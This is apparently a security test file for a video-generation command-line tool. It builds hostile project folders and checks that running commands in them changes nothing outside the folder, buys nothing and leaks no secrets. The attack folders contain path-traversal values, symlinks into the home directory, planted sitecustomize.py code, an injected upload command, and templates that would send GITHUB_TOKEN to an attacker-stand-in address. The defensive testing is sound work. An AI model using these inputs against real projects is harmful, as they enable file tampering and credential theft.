"""Folders from elsewhere: locks, journals, links, `.env`, prices and outputs of another project and
of an attacker who knows our lineage. Does looking at one change anything outside it, buy anything,
or send anything away?

The judge compares every file outside the folder, what the sandbox was asked to create, and each
byte that reached the attacker's address.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from klingflow.errors import ExitCode
from klingflow.ledger.boxes import ABOUT, ASKED, BOUGHT
from klingflow.ledger.boxholding import holder_file
from klingflow.ledger.boxplaces import place_name
from klingflow.ledger.headers import lock_header
from klingflow.ledger.lines import journal_line, lock_line, parse_lock, runner_line
from klingflow.model import Purchase
from klingflow.sandbox.child import Sandbox
from klingflow.sandbox.options import Options
from tests import forked
from tests.campaigns.figures import Report
from tests.harness import Pipeline, Process, charges, pipeline_at
from tests.purchases import AT, intent, submitted

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="links as POSIX has them")

PATIENCE_S = 20  # then a command is asked to end, as by Ctrl-C, and again
LEAVE_S = 60
# Every code of the manual; a lock that is damaged gives 1, too.
ENDS = frozenset({0, 1, 2, 3, 4, 5, 6, 7, 8, 11, 130})
KEY = "sk-hostile-0123456789abcdef"
THEIRS = "sk-the-attackers-own-0123456789"
SECRET = "ghp-0f1e2d3c4b5a69788796a5b4c3d2e1f0"
OURS = {f"s{n}": {"prompt": f"a quiet street, number {n}"} for n in range(1, 4)}


# ---------------------------------------------------------------- who listens


@dataclass
class Ear:
    """An attacker's server: what reached it, and its address."""

    address: str = ""
    heard: list[bytes] = field(default_factory=list)


@contextmanager
def listening() -> Iterator[Ear]:
    """A port that answers nothing useful and keeps every byte."""
    ear = Ear()
    with socket.create_server(("127.0.0.1", 0)) as server:
        ear.address = f"http://127.0.0.1:{server.getsockname()[1]}"

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(2)
                    try:
                        ear.heard.append(connection.recv(65536))
                        connection.sendall(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
                    except OSError:
                        continue

        threading.Thread(target=serve, daemon=True).start()
        try:
            yield ear
        finally:
            server.close()


# ---------------------------------------------------------------- the user's machine


@dataclass
class World:
    """A home, a state folder, a film of ours that is bought, and the folder that is hostile."""

    root: Path
    ours: Pipeline
    sandbox: Sandbox
    ear: Ear

    @property
    def hostile(self) -> Path:
        return self.root / "hostile"

    @property
    def film(self) -> Pipeline:
        """The hostile folder, with the user's own environment."""
        return replace(self.ours, folder=self.hostile)

    @property
    def header(self) -> dict[str, Any]:
        """The first line of our lock, of which the attacker has a copy."""
        found: dict[str, Any] = json.loads(self.ours.lock.read_bytes().splitlines()[0])
        return found

    @property
    def origin(self) -> str:
        return str(json.loads(self.ours.lock.read_bytes().splitlines()[1])["origin"])

    def bought(self) -> list[Purchase]:
        """The purchases of our lock."""
        return list(parse_lock(self.ours.lock.read_bytes(), "film.lock").accounts)

    def write(self, name: str, text: str | bytes) -> Path:
        """A file of the hostile folder."""
        path = self.hostile / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path

    def manifest(self, shots: Any = None, **top: Any) -> None:
        """The hostile folder's manifest: like ours, and whatever else it says."""
        run = {"deadline": "1s", **top.pop("run", {})}
        self.film.write(shots if shots is not None else OURS, run=run, **top)

    def link(self, name: str, target: Path) -> None:
        """A link in the hostile folder."""
        path = self.hostile / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    def lock(self, *purchases: Purchase, lineage: str | None = None) -> bytes:
        """A lock with right sums, of our lineage."""
        lineage = self.header["lineage"] if lineage is None else lineage
        lines = [lock_line(purchase) for purchase in purchases]
        return lock_header(lineage, 900, len(lines)) + b"".join(lines)

    def journal(self, *purchases: Purchase) -> bytes:
        """A journal that says that a runner of our manifest wrote it."""
        begun = runner_line(1, "elsewhere", AT, str(self.ours.manifest))
        return begun + b"".join(journal_line(purchase) for purchase in purchases)

    def is_its_own_place(self, name: str, *, is_new: bool) -> bool:
        """True for what a black box keeps of the hostile folder once the user has had it run: where
        it is, and what the gateway said of purchases that came with its lock. These two files also
        change by later runs; nothing of another place does, and nothing counts as bought.
        """
        own = f"places/{place_name(self.film.manifest)}"
        top, _, of_box = name.removeprefix("ours.state/ledgers/").partition("/")
        if top == name.partition("/")[0]:
            return False
        if of_box in (f"{own}/{ABOUT}", f"{own}/{ASKED}"):
            return True
        return is_new and of_box in ("", "places", own, holder_file(Path()).name)

    def outside(self) -> dict[str, str]:
        """Every file, folder and link outside the hostile folder, by its content."""
        found: dict[str, str] = {}
        for path in sorted(self.root.rglob("*")):
            name = str(path.relative_to(self.root))
            if name.split("/")[0] == "hostile":
                continue
            found[name] = _content(path)
        return found


def _content(path: Path) -> str:
    if path.is_symlink():
        return f"link to {path.readlink()}"
    if path.is_dir():
        return "folder"
    return hashlib.sha256(path.read_bytes()).hexdigest()


@contextmanager
def a_world(folder: Path) -> Iterator[World]:
    """Our film is bought at the sandbox, and everything the user has is in the environment."""
    options = Options(task_time="0s", plain_clips=True)
    with forked.sandbox_with(options) as sandbox, listening() as ear:
        ours = pipeline_at(folder / "ours", sandbox.base_url, KEY)
        home = folder / "home"
        (home / ".config").mkdir(parents=True)
        (home / ".bashrc").write_text("export PATH\n")
        (home / "secret.csv").write_text(f"sku,name\n1,{SECRET}\n")
        (home / "secret.yaml").write_text(f"- {{ sku: 1, name: {SECRET} }}\n")
        more = {"HOME": str(home), "GITHUB_TOKEN": SECRET, "XDG_STATE_HOME": str(home / "state")}
        ours = replace(ours, environ={**ours.environ, **more})
        ours.write(OURS)
        ours.do("run", "film.yaml", "-y", "-q")
        yield World(folder, ours, sandbox, ear)


# ---------------------------------------------------------------- what the folder is

Attack = Callable[[World], None]
ATTACKS: dict[str, Attack] = {}


def attack(made: Attack) -> Attack:
    ATTACKS[made.__name__] = made
    return made


def _forged(world: World) -> list[Purchase]:
    """Lines that our ledger does not have: bought, in doubt, and under our own ids."""
    ours = world.bought()
    known = [
        replace(
            p,
            uid=f"20270101000000000-{n:012x}",
            attempt=9,
            state="submitted",
            task_id=f"task_forged_{n}",
        )
        for n, p in enumerate(ours)
    ]
    doubt = replace(intent("s1", 1, 7), state="in_doubt", origin=world.origin)
    renamed = replace(ours[0], task_id="task_somebody_elses")
    return [*known, doubt, renamed, replace(submitted("s9"), origin=world.origin)]


@attack
def a_copy_of_our_folder(world: World) -> None:
    shutil.copytree(world.ours.folder, world.hostile, symlinks=True, dirs_exist_ok=True)


@attack
def a_lock_of_our_lineage(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock(*_forged(world)))


@attack
def a_lock_of_our_lineage_without_lines(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock())


@attack
def a_journal_of_our_manifest(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock())
    world.write(".klingflow/film.journal", world.journal(*_forged(world)))


@attack
def an_emergency_file(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock())
    lines = b"".join(journal_line(p) for p in _forged(world))
    world.write(".klingflow/film.emergency.jsonl", lines)


@attack
def damaged_and_pruned_files(world: World) -> None:
    world.manifest()
    lines = b"".join(lock_line(p) for p in _forged(world))
    world.write("film.lock", world.lock())
    world.write("film.lock.damaged", lines)
    world.write("film.pruned.jsonl", lines)


@attack
def a_lock_in_two_lineages(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock(*_forged(world)) + world.lock(lineage="f" * 32))


ODD_LINEAGES = ("../../home", "/etc", "..", "", "a" * 4000, "x\n{}", "a/b", "~", "con")


def _odd_lineage(lineage: str) -> Attack:
    def made(world: World) -> None:
        world.manifest()
        world.write("film.lock", world.lock(*_forged(world), lineage=lineage))

    return made


for _number, _lineage in enumerate(ODD_LINEAGES):
    ATTACKS[f"an_odd_lineage_{_number}"] = _odd_lineage(_lineage)

LINKS = {
    ".klingflow": ".klingflow",
    "film.lock": "film.lock",
    "outputs": "outputs",
    "outputs/film": "outputs/film",
    "film.lock.damaged": "film.lock",
    "film.pruned.jsonl": "film.lock",
    ".klingflow/film.journal": ".klingflow/film.journal",
    ".klingflow/film.folded": "film.lock",
    ".klingflow/film.reserve": ".klingflow/film.journal",
    ".klingflow/film.emergency.jsonl": "film.lock",
    ".klingflow/files.json": ".klingflow/files.json",
    ".klingflow/.gitignore": "film.yaml",
    "outputs/film/s1.mp4": "outputs/film/s1.mp4",
    "outputs/film/s1.mp4.part": "outputs/film/s1.mp4",
    "outputs/film/earlier": "outputs/film",
    "outputs/film/manifest.json": "outputs/film/manifest.json",
    "film.yaml": "film.yaml",
    "film.picks.yaml": "film.yaml",
}


def _linked(name: str, target: str, lineage: str | None, *, hard: bool) -> Attack:
    def made(world: World) -> None:
        if name != "film.yaml":
            world.manifest()
        if name != "film.lock":
            world.write("film.lock", world.lock(*_forged(world), lineage=lineage))
        aim = world.ours.folder / target
        if hard and not aim.exists():
            aim = world.ours.lock
        if hard:
            place = world.hostile / name
            place.parent.mkdir(parents=True, exist_ok=True)
            os.link(aim, place)
        else:
            world.link(name, aim)

    return made


for _name, _target in LINKS.items():
    ATTACKS[f"a_link_{_name}"] = _linked(_name, _target, None, hard=False)
    if Path(_target).suffix and _name != "film.yaml":
        ATTACKS[f"a_hard_link_{_name}"] = _linked(_name, _target, "e" * 32, hard=True)


@attack
def a_link_to_a_folder_of_the_home(world: World) -> None:
    world.manifest()
    world.link("outputs", world.root / "home")
    world.link(".klingflow", world.root / "home/.config")


@attack
def a_link_into_the_state_folder(world: World) -> None:
    world.manifest()
    state = Path(world.ours.environ["KLINGFLOW_STATE_DIR"])
    world.link(".klingflow", state)
    world.link("outputs", state)


@attack
def an_output_elsewhere(world: World) -> None:
    world.manifest(output="../ours/outputs/film/{shot}{take}.mp4")


@attack
def a_name_elsewhere(world: World) -> None:
    world.manifest(name="../../../ours/outputs/film")


@attack
def lines_whose_output_is_elsewhere(world: World) -> None:
    world.manifest()
    places = ("../ours/outputs/film/s1.mp4", str(world.root / "home/.bashrc"), "~/.bashrc")
    lines = [replace(p, output=place) for p, place in zip(world.bought(), places, strict=True)]
    world.write("film.lock", world.lock(*lines))
    world.write(".klingflow/film.journal", world.journal(*lines))


@attack
def lines_whose_video_is_at_the_attackers(world: World) -> None:
    world.manifest()
    lines = [
        replace(
            p,
            state="succeeded",
            sha256=None,
            video_url=f"{world.ear.address}/{p.shot}.mp4",
        )
        for p in world.bought()
    ]
    world.write("film.lock", world.lock(*lines, lineage="d" * 32))


@attack
def lines_of_another_gateway(world: World) -> None:
    world.manifest()
    lines = [replace(p, state="submitted", origin=world.ear.address) for p in world.bought()]
    world.write("film.lock", world.lock(*lines))


@attack
def odd_lines(world: World) -> None:
    world.manifest()
    data = world.lock(*_forged(world), lineage="c" * 32)
    for before, after in ((b"2026-", b"noon-"), (b"task_", b"ta\\nk"), (b'"CNY"', b'"\\u202e"')):
        data += data.replace(before, after)
    world.write("film.lock", data)


@attack
def prices_of_nothing(world: World) -> None:
    world.manifest({"new": {"prompt": "never bought"}}, run={"max_tasks": 1_000_000})
    tiers = {"*": {"per_request": 0}}
    document = {
        "currency": "CNY",
        "as_of": "2026-01-01",
        "tiers": tiers,
        "failed_tasks": "refunded",
    }
    world.write("prices.yaml", json.dumps(document))


@attack
def a_spend_that_the_folder_allows(world: World) -> None:
    world.manifest(
        {"new": {"prompt": "never bought"}}, run={"max_spend": 1000, "retries": 9}, budget=1_000_000
    )
    lines = "KLINGFLOW_YES=1\nKLINGFLOW_CONSENT=yes\nCI=true\n"
    world.write(
        ".env", f"KLINGFLOW_API_KEY={THEIRS}\nKLINGFLOW_BASE_URL={world.ear.address}\n{lines}"
    )


@attack
def a_plan_that_was_saved_elsewhere(world: World) -> None:
    world.manifest({"new": {"prompt": "never bought"}})
    world.write("plan.json", '{"plan": 1, "actions": [{"verb": "create", "key": "new"}]}')


@attack
def an_address_in_the_manifest(world: World) -> None:
    world.manifest(gateway={"base_url": world.ear.address})
    lines = [replace(p, state="submitted", origin=world.ear.address) for p in world.bought()]
    world.write("film.lock", world.lock(*lines, lineage="b" * 32))


@attack
def an_address_in_env(world: World) -> None:
    world.manifest()
    world.write(".env", f"KLINGFLOW_BASE_URL={world.ear.address}\n")


@attack
def settings_in_env(world: World) -> None:
    world.manifest()
    home, ear = world.root / "home", world.ear.address
    settings = {
        "KLINGFLOW_STATE_DIR": home,
        "KLINGFLOW_WRITE_BELOW": world.root,
        "KLINGFLOW_READ_BELOW": world.root,
        "KLINGFLOW_PRICES": home / "secret.yaml",
        "KLINGFLOW_VAR_token": "x",
        "KLINGFLOW_NOTIFY": f"{ear}/notify",
        "KLINGFLOW_UPLOAD": "touch {file} ../home/made",
        "HTTP_PROXY": ear,
        "HTTPS_PROXY": ear,
        "ALL_PROXY": ear,
        "SSL_CERT_FILE": "/nonexistent",
        "PYTHONPATH": world.hostile,
        "GITHUB_TOKEN": "y",
    }
    world.write(".env", "".join(f"{name}={value}\n" for name, value in settings.items()))
    world.link("outputs", world.ours.folder / "outputs")
    world.write("klingflow.py", "import os; os.mkdir('../home/made')\n")
    world.write("sitecustomize.py", "import os; os.mkdir('../home/made')\n")


@attack
def an_env_that_is_a_link(world: World) -> None:
    world.manifest(gateway={"base_url": world.ear.address})
    (world.root / "home/.env").write_text(f"KLINGFLOW_API_KEY={SECRET}\n")
    world.link(".env", world.root / "home/.env")


@attack
def variables_in_a_manifest(world: World) -> None:
    url = f"{world.ear.address}/?t="
    world.manifest(
        {"new": {"prompt": "x ${{ env.GITHUB_TOKEN }}", "image": url + "${{ env.GITHUB_TOKEN }}"}},
        env=["GITHUB_TOKEN", "KLINGFLOW_API_KEY"],
    )


@attack
def variables_that_are_declared(world: World) -> None:
    world.manifest(
        {"new": {"prompt": "${{ vars.GITHUB_TOKEN }} ${{ vars.KLINGFLOW_API_KEY }}"}},
        vars={"GITHUB_TOKEN": "a", "KLINGFLOW_API_KEY": "b", "HOME": "c"},
    )


@attack
def files_of_the_home(world: World) -> None:
    home = world.root / "home"
    world.link("rows.csv", home / "secret.csv")
    rows = {"foreach": "rows.csv", "key": "${{ row.sku }}", "prompt": "${{ row.name }}"}
    world.manifest({"ad": rows}, include=["../ours/film.yaml"], prices="../home/secret.yaml")


@attack
def picks_of_somebody(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock(*_forged(world)))
    world.write("film.picks.yaml", '- { shot: "../s1", take: 1, purchase: "../../x" }\n')


@attack
def videos_of_somebody(world: World) -> None:
    world.manifest()
    world.write("film.lock", world.lock(*world.bought()))
    for number in range(1, 4):
        world.write(f"outputs/film/s{number}.mp4", b"not a video")
    world.write("outputs/film/manifest.json", "{}")


@attack
def a_state_folder_of_its_own(world: World) -> None:
    world.manifest()
    state = Path(world.ours.environ["KLINGFLOW_STATE_DIR"])
    for place in ("state", ".local/state/klingflow", ".klingflow/state"):
        shutil.copytree(state, world.hostile / place)


# ---------------------------------------------------------------- what the user does there

COMMANDS: dict[str, Sequence[str]] = {
    "plan": ("plan", "film.yaml"),
    "status": ("status", "film.yaml"),
    "run": ("run", "film.yaml"),
    "fetch": ("fetch", "film.yaml"),
    "doctor": ("doctor",),
    "check": ("lock", "check", "film.yaml"),
    "merge": ("lock", "merge", "film.yaml", "film.lock.damaged", "-n"),
    "dry run": ("run", "film.yaml", "-n"),
    "why": ("why", "film.yaml", "s1"),
}
# Who has a key and an address: the user for all folders, a key alone, or neither.
WHO = ("both", "key", "nobody")


def _environ(world: World, who: str) -> dict[str, str]:
    left = {"both": (), "key": ("KLINGFLOW_BASE_URL",)}.get(
        who, ("KLINGFLOW_BASE_URL", "KLINGFLOW_API_KEY")
    )
    return {name: value for name, value in world.ours.environ.items() if name not in left}


def _begun(folder: Path, environ: Mapping[str, str], arguments: Sequence[str]) -> Process:
    """A command in a folder, which is on no path of Python's: as the installed program has it.
    Where the folder has Python of its own, Python itself is started there.
    """
    if forked.can_have(environ) and not [*folder.glob("*.py")]:
        before = "import sys; del sys.path[0];"
        return forked.begin(arguments, folder, environ, before=before)
    return subprocess.Popen(
        [sys.executable, "-P", "-m", "klingflow", *arguments],
        cwd=folder,
        env=environ,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _heard(process: Process) -> tuple[str, str]:
    """What a command says, and how it ended: what it looks for may not exist anywhere."""
    for ended, patience_s in (("by itself", PATIENCE_S), ("asked", LEAVE_S), ("asked", LEAVE_S)):
        try:
            return "".join(process.communicate(timeout=patience_s)), ended
        except subprocess.TimeoutExpired:
            process.send_signal(signal.SIGINT)
    process.kill()
    return "".join(process.communicate()), "killed"


@dataclass
class Judge:
    """What went wrong, by what must be zero."""

    world: World
    wrong: Counter[str]
    found: list[str]
    commands: Mapping[str, Sequence[str]] = field(default_factory=lambda: COMMANDS)

    def watch(self, name: str, command: str, who: str) -> None:
        """One command in the hostile folder, and what it left behind."""
        world, label = self.world, f"{name}, {command}, {who}"
        before, charged, heard = world.outside(), len(charges(world.sandbox)), len(world.ear.heard)
        process = _begun(world.hostile, _environ(world, who), self.commands[command])
        words, ended = _heard(process)
        if ended == "killed":
            self._say("hangs", label)
        broke = "internal error" in words or "Traceback" in words
        if ended == "by itself" and (broke or process.returncode not in ENDS):
            self._say("crashes", f"{label}: {process.returncode} {words[-300:]}")
        after = world.outside()
        changed = [n for n in {*before, *after} if before.get(n) != after.get(n)]
        if command in ("run", "fetch") and process.returncode != ExitCode.USAGE:
            changed = [n for n in changed if not world.is_its_own_place(n, is_new=n not in before)]
        if changed:
            self._say("rules broken", f"{label}: changed {sorted(changed)[:4]}; {words[-200:]}")
        if len(charges(world.sandbox)) != charged:
            self._say("charged twice", f"{label}: bought without consent")
        for data in world.ear.heard[heard:]:
            if KEY.encode() in data or SECRET.encode() in data or data.startswith(b"POST"):
                self._say("leaks", f"{label}: {data[:200]!r}")
        if SECRET in words or KEY in words:
            self._say("leaks", f"{label}: on the terminal")

    def _say(self, kind: str, what: str) -> None:
        self.wrong[kind] += 1
        self.found.append(f"{kind}: {what}")


def _gravest(found: str) -> bool:
    """Order what was found: money and secrets first, so that a long list does not hide them."""
    return not found.startswith(("leaks", "charged twice"))


def test_the_judge_sees_what_a_folder_does(tmp_path: Path) -> None:
    """A change outside, a purchase without a word, and a key that is sent are found out."""
    with a_world(tmp_path) as world:
        world.hostile.mkdir()
        world.manifest({"new": {"prompt": "bought"}})
        judge = Judge(world, Counter(), [])
        judge.commands = {"run": ("run", "film.yaml", "-y", "--gateway", world.ear.address)}
        judge.watch("consent", "run", "both")
        judge.commands = {"run": ("run", "film.yaml", "-y", "-s", "new")}
        judge.watch("consent", "run", "both")
        own = f"ours.state/ledgers/1/places/{place_name(world.film.manifest)}"
        assert world.is_its_own_place(f"{own}/{ASKED}", is_new=False)
        for name in (f"{own}/{BOUGHT}", own.replace("places/", f"places/1/{ASKED}")):
            assert not world.is_its_own_place(name, is_new=True)
        judge.commands = {"plan": ("lock", "prune", "../ours/film.yaml", "-y")}
        world.ours.write({"s1": OURS["s1"]})
        judge.watch("elsewhere", "plan", "both")
        assert {kind for kind, number in judge.wrong.items() if number} == {
            "charged twice", "leaks", "rules broken",
        }  # fmt: skip


def test_hostile_folders(tmp_path: Path, long: bool, report: Report) -> None:
    """Nothing outside a folder changes, nothing is bought, and neither key nor variable is sent."""
    tried: Counter[str] = Counter()
    wrong: Counter[str] = Counter(
        {"charged twice": 0, "crashes": 0, "hangs": 0, "leaks": 0, "rules broken": 0}
    )
    with a_world(tmp_path) as world:
        judge = Judge(world, wrong, [])
        planned = world.ours.data("plan", "film.yaml")
        for number, (name, made) in enumerate(ATTACKS.items()):
            world.hostile.mkdir()
            made(world)
            for command, who in _chosen(number, long):
                judge.watch(name, command, who)
                tried["commands"] += 1
            shutil.rmtree(world.hostile)
            tried["folders"] += 1
        if world.ours.data("plan", "film.yaml") != planned:
            wrong["rules broken"] += 1
            judge.found.append("our own plan says something else")
        assert len(charges(world.sandbox)) == len(OURS)
    report.add(
        "hostile folders",
        tried,
        wrong=wrong,
        found="\n".join(sorted(judge.found, key=_gravest)[:40]),
    )


def _chosen(number: int, long: bool) -> list[tuple[str, str]]:
    """Every command for everybody, or one for somebody, in turn; every second one may write."""
    every = [(command, who) for command in COMMANDS for who in WHO]
    if long:
        return every
    writes = [pair for pair in every if pair[0] in ("run", "fetch")]
    looks = [pair for pair in every if pair[0] not in ("run", "fetch")]
    return [writes[number % len(writes)]] if number % 3 else [looks[number % len(looks)]]
